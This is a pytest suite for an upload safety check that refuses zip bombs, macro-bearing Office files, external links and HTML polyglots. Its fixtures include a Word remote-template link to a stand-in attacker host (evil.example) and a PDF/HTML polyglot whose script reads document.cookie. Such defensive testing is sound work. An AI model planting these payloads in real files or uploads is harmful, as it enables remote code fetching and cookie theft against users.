"""Evidence uploads get the importers' checks: an Office file that inflates past the limits or
holds too many entries, one with macros (vbaProject.bin, a VBA storage) or external links, and a
PDF/HTML polyglot are refused with a clear message, and nothing is written (no file in the
upload folder, no row). Clean files still go through."""

import io
import os
import zipfile

import openpyxl
import pytest
from sqlmodel import select

from app.models.report import Evidence
from app.services import ServiceError, files
from app.sheets.safety import Limits, UnsafeWorkbook, check_office_document
from tests.builders import factories as f
from tests.builders.report_world import World

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def xlsx(extra: dict[str, bytes] | None = None, types_extra: str = "") -> bytes:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "佐证"
    buf = io.BytesIO()
    wb.save(buf)
    return _add(buf.getvalue(), extra or {}, types_extra)


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("word/document.xml", "<w:document/>")
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def _add(data: bytes, extra: dict[str, bytes], types_extra: str) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "[Content_Types].xml" and types_extra:
                body = body.replace(b"</Types>", types_extra.encode() + b"</Types>")
            z.writestr(info.filename, body)
        for name, body in extra.items():
            z.writestr(name, body)
    return buf.getvalue()


def bomb() -> bytes:
    """A small .xlsx with 1,900 entries and one part that inflates a thousandfold."""
    extra = {f"xl/media/pad{i}.xml": b"<x/>" for i in range(1900)}
    extra["xl/media/huge.xml"] = b"\0" * (4 * 1024 * 1024)
    return xlsx(extra)


REMOTE_TEMPLATE = (b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
                   b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
                   b'</Relationships>')
OLE = files.OLE_MAGIC + b"\0" * 504 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 64

REFUSED = {
    "inflates": (lambda: bomb(), "台账.xlsx", "压缩"),
    "too_many_entries": (lambda: xlsx({f"xl/media/p{i}.xml": b"<x/>" for i in range(2100)}), "台账.xlsx", "文件过多"),
    "xlsx_macros": (lambda: xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "台账.xlsx", "宏"),
    "xlsx_macro_type": (
        lambda: xlsx(
            types_extra='<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
        ),
        "台账.xlsx",
        "宏",
    ),
    "external_links": (
        lambda: xlsx({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "台账.xlsx",
        "外部链接",
    ),
    "docx_macros": (lambda: docx({"word/vbaProject.bin": b"macro"}), "总结.docx", "宏"),
    "docx_remote_template": (lambda: docx({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), "总结.docx", "外部模板"),
    "doc_macros": (lambda: OLE, "总结.doc", "宏"),
    "pdf_html_polyglot": (
        lambda: b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n" + PDF[9:],
        "证明.pdf",
        "网页或脚本",
    ),
    "png_html_polyglot": (lambda: b"\x89PNG\r\n\x1a\n<!doctype html><script>alert(1)</script>", "图.png", "网页或脚本"),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_the_shared_check_refuses(app, case):
    build, name, words = REFUSED[case]
    with app.app_context(), pytest.raises(ServiceError) as err:
        files.check(build(), name)
    assert words in err.value.message and "未通过安全检查" in err.value.message


def test_inflation_limits_are_the_importers(app):
    data = xlsx({"xl/media/a.xml": b"a" * 5000, "xl/media/b.xml": b"b" * 5000})
    with pytest.raises(UnsafeWorkbook, match="总大小"):
        check_office_document(data, "xlsx", limits=Limits(max_total_size=8000))
    check_office_document(data, "xlsx")


@pytest.mark.parametrize("data,name", [(lambda: xlsx(), "台账.xlsx"), (lambda: docx(), "总结.docx"),
                                       (lambda: PDF, "证明.pdf"), (lambda: files.OLE_MAGIC + b"\0" * 600, "旧.doc")])
def test_clean_files_pass(app, data, name):
    with app.app_context():
        assert files.check(data(), name).kind == files.extension(name)


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_a_refused_evidence_upload_writes_nothing(client, session, app, case):
    w = World(session)
    build, name, words = REFUSED[case]
    f.login(client, "tb1")
    url = f"/report/cycles/{w.cycle.id}/units/{w.c1.id}/evidence"
    r = client.post(url, data={"code": "B1", "title": "台账", "file": (io.BytesIO(build()), name)},
                    content_type="multipart/form-data", follow_redirects=True)
    page = r.get_data(as_text=True)
    assert "未通过安全检查" in page and words in page
    session.expire_all()
    assert session.exec(select(Evidence)).all() == []
    folder = os.path.join(app.config["UPLOAD_FOLDER"], "evidence")
    assert not os.path.isdir(folder) or os.listdir(folder) == []
    # a clean file through the same form is stored
    r = client.post(url, data={"code": "B1", "title": "台账", "file": (io.BytesIO(xlsx()), "台账.xlsx")},
                    content_type="multipart/form-data", follow_redirects=True)
    assert "已添加佐证材料" in r.get_data(as_text=True)
    assert len(os.listdir(folder)) == 1
